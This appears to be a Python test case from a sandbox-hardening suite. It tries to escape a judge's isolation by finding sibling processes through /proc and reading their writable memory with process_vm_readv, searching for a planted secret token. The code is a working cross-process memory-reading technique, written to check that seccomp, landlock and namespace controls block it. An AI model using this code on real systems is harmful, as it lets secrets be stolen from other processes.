# class: A7
# task: reveal
# mode: split
# expect: assertion | exception | exit
# lost-without: seccomp, landlock, uid, namespaces
# tries: reads the memory of the other processes by a system call instead of a file

import ctypes
import os
import re
import os


def above():
    """The zygote and the processes above it."""
    found, pid = [], os.getppid()
    while pid > 1 and len(found) < 2:
        found.append(pid)
        with open(f"/proc/{pid}/stat") as file:
            pid = int(file.read().rpartition(")")[2].split()[1])
    return found


def children(pid):
    found = []
    for thread in os.listdir(f"/proc/{pid}/task"):
        with open(f"/proc/{pid}/task/{thread}/children") as file:
            found += map(int, file.read().split())
    return found


def zygotes():
    try:
        return children(above()[-1])
    except (OSError, IndexError):
        return []


def relatives():
    """Every process of the judge but this one."""
    try:
        found = above() + zygotes()
        for pid in zygotes():
            found += children(pid)
    except OSError:
        found = [os.getppid()]
    return [pid for pid in dict.fromkeys(found) if pid != os.getpid()]

libc = ctypes.CDLL(None, use_errno=True)


class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def reveal():
    for pid in relatives():
        try:
            with open(f"/proc/{pid}/maps") as maps:
                areas = [line.split()[:2] for line in maps]
        except OSError:
            continue
        for area, rights in areas:
            start, end = (int(number, 16) for number in area.split("-"))
            if "w" not in rights or end - start > 1 << 26:
                continue
            buffer = ctypes.create_string_buffer(end - start)
            here = Span(ctypes.addressof(buffer), end - start)
            there = Span(start, end - start)
            if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
                found = re.search(rb"planted-[0-9a-f]{32}", buffer.raw)
                if found:
                    return found.group().decode()
